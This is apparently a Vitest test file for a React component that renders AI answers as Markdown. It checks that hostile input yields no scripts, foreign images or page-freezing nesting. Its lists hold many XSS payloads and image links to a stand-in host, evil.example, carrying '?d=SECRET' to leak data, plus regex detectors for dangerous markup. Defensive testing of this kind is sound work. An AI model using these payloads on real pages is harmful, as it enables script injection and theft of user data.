/** Answers of a model can't harm the page: no scripts, no foreign pictures, no broken layout. */
import { renderToStaticMarkup } from 'react-dom/server';
import { beforeAll, describe, expect, test, vi } from 'vitest';
import { AnswerText } from './answer-text.tsx';

beforeAll(() => {
  vi.stubGlobal('window', { location: { origin: 'https://maquette.example' } });
});

const shown = (text: string) => renderToStaticMarkup(<AnswerText text={text} />);

const attacks = [
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)></svg>',
  '<script>alert(1)</script>',
  '<iframe src="https://evil.example"></iframe>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<form action="https://evil.example"><input name=q></form>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](vbscript:msgbox(1))',
  '<javascript:alert(1)>',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml,<svg onload=alert(1)>)',
  '![x](https://evil.example/?d=SECRET)',
  '![x](//evil.example/?d=SECRET)',
  '![x](\\\\evil.example/a.png)',
  '![x](/\\evil.example/a.png)',
  '![x](https://maquette.example@evil.example/a.png)',
  '![x](https://maquette.example.evil.example/a.png)',
  '![x](HTTPS://EVIL.example/a.png)',
  '![x](/api/auth/sign-out)',
  '![x](blob:https://maquette.example/1)',
  '![x](http://%zz)',
  '[x](http://%zz)',
  '[x]: https://evil.example/a.png\n\n![x]',
  '| a |\n| - |\n| ![x](https://evil.example/t.png) |',
  '[^__proto__]\n\n[^__proto__]: <img src=x onerror=alert(1)>',
  '<div id="__proto__" style="position:fixed;inset:0">x</div>',
  '# <style>*{display:none}</style>',
  '`<img src=x onerror=alert(1)>`',
  '```html\n<script>alert(1)</script>\n```',
  '\u202Egnp.exe\u202C [x](https://evil.example)',
];

/** Markup that would run, load or send something. */
const harms = [
  /<(?:script|iframe|object|embed|form|style|svg|base|meta|link|video|audio)\b/i,
  /<[^>]+\son\w+\s*=/i,
  /<[^>]+\sstyle\s*=/i,
  /(?:href|src)\s*=\s*"\s*(?:javascript|vbscript|data|blob):/i,
  /<(?:img|source)[^>]+src="(?!\/api\/files\/)/i,
];

describe('hostile Markdown (X-01, X-02)', () => {
  test.each(attacks)('%s', (attack) => {
    const html = shown(attack);
    for (const harm of harms) expect(html).not.toMatch(harm);
  });

  test('at every cut point of a stream (X-06)', () => {
    for (const attack of attacks) {
      for (let cut = 1; cut < attack.length; cut += 1) {
        const html = shown(attack.slice(0, cut));
        for (const harm of harms) expect(html).not.toMatch(harm);
      }
    }
  });
});

describe('input that becomes harmful after parsing (X-03)', () => {
  test.each([
    ['references to signs', '&lt;img src=x onerror=alert(1)&gt;'],
    ['numbers of signs', '&#60;script&#62;alert(1)&#60;/script&#62;'],
    ['escaped brackets', '\\<svg onload=alert(1)\\>'],
    ['a tag cut by emphasis', '<scr*i*pt>alert(1)</scr*i*pt>'],
    ['a tag within a tag', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
    ['a title of a link', '[x](https://a.example "onmouseover=alert(1) \\"")'],
    ['a title of a picture', '![x](https://a.example/a.png "x\\" onerror=\\"alert(1)")'],
    ['a name of a picture', '![x" onerror="alert(1)](https://a.example/a.png)'],
    ['a language of code', '```"><script>alert(1)</script>\ncode\n```'],
    ['an address in references', '[x](&#x6A;&#97;vascript&colon;alert&lpar;1&rpar;)'],
    ['an address in another place', '[x][1]\n\n[1]: java&Tab;script:alert(1)'],
    ['a comment', '<!--><img src=x onerror=alert(1)>-->'],
  ])('%s', (_, attack) => {
    const html = shown(attack);
    for (const harm of harms) expect(html).not.toMatch(harm);
  });

  test('character references are decoded to text', () => {
    expect(shown('Oak &amp; ash, 20 &lt; 30 &mdash; 2 &#215; 4 &unknown;')).toContain(
      'Oak &amp; ash, 20 &lt; 30 — 2 × 4 &amp;unknown;',
    );
  });
});

describe('links and pictures', () => {
  test('an external link opens a new tab, sends no referrer, and shows its host (X-09)', () => {
    const html = shown('[The register](https://records.example/plans?id=1)');
    expect(html).toContain('href="https://records.example/plans?id=1"');
    expect(html).toContain('target="_blank"');
    expect(html).toContain('rel="noopener noreferrer"');
    expect(html).toContain('(records.example)');
  });

  test('a foreign picture is a link; one of our own is shown', () => {
    const foreign = shown('![A plan](https://evil.example/a.png)');
    expect(foreign).toContain('Show picture: A plan');
    expect(foreign).toContain('(evil.example)');
    expect(shown('![Mine](/api/files/abc-1)')).toContain('<img src="/api/files/abc-1"');
  });
});

describe('Markdown as readers expect it', () => {
  test('lists within lists', () => {
    const html = shown('1. one\n   1. deeper\n      - deepest\n2. two');
    expect(html.match(/<ol/g)).toHaveLength(2);
    expect(html.match(/<ul/g)).toHaveLength(1);
  });

  test('tables, lists, bold and code', () => {
    const html = shown('| A | B |\n| - | - |\n| **1** | `2` |\n\n- one\n- two\n\n1. first');
    for (const tag of ['<table', '<strong>', '<code', '<ul', '<ol']) expect(html).toContain(tag);
  });
});

describe('size (X-01)', () => {
  test.each([
    ['quotes', '>'.repeat(5_000)],
    ['lists', Array.from({ length: 2_000 }, (_, depth) => `${'  '.repeat(depth)}- x`).join('\n')],
    ['numbered lists', '1. '.repeat(10_000)],
    ['numbered lists of bullets', `${'1. - '.repeat(6_000)}x`],
    ['numbered lists in quotes', `${'> 1) '.repeat(6_000)}x`],
    ['numbered lists after others', `A list:\n\n1. one\n2. two\n${'   1. '.repeat(3_000)}x`],
    ['emphasis', '*'.repeat(20_000)],
    ['brackets', '['.repeat(20_000)],
    ['a line of 100,000 characters', 'x'.repeat(100_000)],
    ['links', '[a](b'.repeat(5_000)],
    ['backticks', '`'.repeat(20_000)],
  ])('deep or endless %s neither breaks the page nor holds it up', (_, text) => {
    // CPU time, so that a busy machine doesn't matter.
    const before = process.cpuUsage();
    expect(shown(text).length).toBeGreaterThan(0);
    const { user, system } = process.cpuUsage(before);
    expect((user + system) / 1000).toBeLessThan(5_000);
  });
});
